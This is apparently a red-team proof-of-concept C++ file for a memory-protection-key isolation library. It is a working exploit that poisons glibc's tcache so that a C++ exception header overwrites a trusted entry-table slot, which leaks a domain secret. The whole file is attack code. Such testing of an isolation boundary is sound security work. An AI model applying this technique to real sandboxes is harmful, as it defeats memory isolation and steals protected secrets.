// A C++ exception thrown in trusted code is allocated with glibc's malloc,
// through a tcache that lives in glibc's heap (untrusted memory): untrusted
// code points the trusted record's tcache bin at the domain's entry table,
// and __cxa_throw writes the exception header there, with the terminate
// handler (std::set_terminate, an untrusted global) landing on an entry's
// slot. Another thread's gate call then runs the attacker's function with
// the domain's PKRU.
//
// docs/using.md allows C++ exceptions in trusted code but forbids data in
// glibc's malloc; __cxa_allocate_exception (libstdc++ eh_alloc.cc) calls
// malloc. The trusted TCB's `tcache` TLS pointer is the record's own, but the
// tcache_perthread_struct it points to is a chunk of a glibc arena, ordinary
// untrusted memory. After one throw and catch, the record's tcache holds the
// freed exception chunk (bin 7, 0x90 bytes); untrusted code finds it and
// sets entries[7] to an address in the DomainState (the start of the
// domain's region). The next throw's malloc returns that address;
// __cxa_init_primary_exception stores std::get_terminate() at +0x20 and
// std::get_unexpected() at +0x18, the thrown object (here an int the caller
// chose) at +0x80: attacker-chosen words at attacker-chosen trusted
// addresses. free() at the catch's end then aborts (the word before is not
// a chunk size); glibc's fatal message blocks on a full pipe at fd 2, so the
// thread stays inside trusted code and the process lives on.
//
//   tools/cordon-pku-run --kernel 6.1 --cpus 2 -- build/redteam/eh_tcache
//   tools/cordon-pku-run --kernel 6.12 --cpus 2 -- build/redteam/eh_tcache
#include <exception>
#include <fcntl.h>
#include <pthread.h>
#include <set>
#include "common.h"

static cordon_entry g_nop, g_check;
static volatile uint8_t g_stolen[32];
static volatile uint32_t g_pkru_seen;
static const uint64_t kMagic = 0x5ec7e7ab1eull;

static uint32_t rdpkru(void) {
  uint32_t eax, edx;
  __asm__ volatile(".byte 0x0f,0x01,0xee" : "=a"(eax), "=d"(edx) : "c"(0));
  return eax;
}
// Untrusted code, reached through the domain's entry table.
static uint64_t evil(uint64_t, uint64_t, uint64_t, uint64_t, uint64_t) {
  g_pkru_seen = rdpkru();
  for (int i = 0; i < 32; i++) g_stolen[i] = g_secret[i];
  return kMagic;
}

// Ordinary trusted entries.
static uint64_t e_nop(uint64_t, uint64_t, uint64_t, uint64_t, uint64_t) { return 0; }
struct BadLength { int n; };
static int check_len(uint64_t n) {
  if (n > 4096) throw BadLength{(int)n};
  return 0;
}
static uint64_t e_check(uint64_t n, uint64_t, uint64_t, uint64_t, uint64_t) {
  try {
    return (uint64_t)check_len(n);
  } catch (const BadLength&) {
    return (uint64_t)-1;
  }
}

// Every glibc tcache_perthread_struct chunk (size 0x290, in any arena) in
// untrusted read-write memory.
static std::set<uint64_t> tcaches(void) {
  std::set<uint64_t> out;
  FILE* f = fopen("/proc/self/maps", "r");
  char line[512];
  while (f && fgets(line, sizeof line, f)) {
    unsigned long a, b;
    char perm[8];
    if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || strncmp(perm, "rw-p", 4) != 0) continue;
    if (!cordon_is_untrusted_range((void*)a, b - a) || strstr(line, "[vvar")) continue;
    for (uint64_t p = a + 8; p + 0x290 <= b; p += 16) {
      uint64_t sz = *(uint64_t*)p;
      if (sz == 0x291 || sz == 0x295) out.insert(p + 8);
    }
  }
  if (f) fclose(f);
  return out;
}

static uint64_t g_want;
static void* spin(void*) {
  // Slowly: the header write zeroes the slot for a few instructions before
  // it stores the handler; the main thread stays inside trusted code after.
  for (;;) {
    usleep(20000);
    if (cordon_call(g_nop, 0, 0, 0, 0, 0) == kMagic) break;
  }
  printf("thread B: the nop entry returned the attacker's value; PKRU inside %08x\n", g_pkru_seen);
  uint8_t got[32];
  for (int i = 0; i < 32; i++) got[i] = g_stolen[i];
  dump("read by the attacker's function", got, 32);
  printf("%s\n", fnv(got, 32) == g_want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  fflush(stdout);
  _exit(0);
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_nop, "nop", &g_nop);
  cordon_register(g_dom, e_check, "check", &g_check);
  g_want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  const void* rstart = 0;
  size_t rsize = 0;
  cordon_domain_region(g_dom, &rstart, &rsize);
  printf("ids: gen %u hash %u nop %u check %u; domain region %p\n", g_gen.id, g_hash.id, g_nop.id, g_check.id,
         rstart);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  setenv("LIBC_FATAL_STDERR_", "1", 1);

  std::set<uint64_t> before = tcaches();
  printf("check(5000) = %lld\n", (long long)cordon_call(g_check, 5000, 0, 0, 0, 0));
  std::set<uint64_t> after = tcaches();
  uint64_t tc = 0;
  for (uint64_t t : after) {
    uint16_t* counts = (uint16_t*)t;
    uint64_t* entries = (uint64_t*)(t + 0x80);
    if (!before.count(t) && counts[7] == 1 && entries[7] != 0) tc = t;
    if (!before.count(t)) printf("new tcache at %#lx: counts[7]=%u entries[7]=%#lx\n", t, counts[7], entries[7]);
  }
  if (!tc) { printf("trusted tcache not found\n"); return 1; }

  // The DomainState's table starts at +0x30; the header's terminate handler
  // is at +0x20 and its unexpected handler at +0x18 (16-byte aligned chunk).
  const uint64_t slot = (uint64_t)rstart + 0x30 + 8ull * g_nop.id;
  const uint64_t mem = (g_nop.id % 2 == 0) ? slot - 0x20 : slot - 0x18;
  printf("trusted tcache at %#lx; nop's slot %#lx; chunk aimed at %#lx\n", tc, slot, mem);
  // The handlers are plain function pointers: evil itself, which the gate
  // will call as an entry.
  std::set_terminate(reinterpret_cast<std::terminate_handler>(&evil));
  std::set_unexpected(reinterpret_cast<std::unexpected_handler>(&evil));
  *(uint64_t*)(tc + 0x80 + 7 * 8) = mem;

  // glibc's fatal message after the bad free() goes to fd 2: a full pipe.
  int p[2];
  if (pipe(p) != 0) return 1;
  fcntl(p[1], F_SETFL, O_NONBLOCK);
  char junk[4096] = {0};
  while (write(p[1], junk, sizeof junk) > 0) {}
  fcntl(p[1], F_SETFL, 0);
  fflush(stdout);
  fflush(stderr);
  dup2(p[1], 2);

  alarm(120);  // a bound for the VM run if the attack fails
  pthread_t b;
  pthread_create(&b, NULL, spin, NULL);
  // The poisoned tcache is this thread's record's: the throw must be here.
  cordon_call(g_check, (1ull << 32) | 0x41424344u, 0, 0, 0, 0);  // blocks in glibc's fatal message
  printf("main: check returned\n");
  pthread_join(b, NULL);
  _exit(0);
}
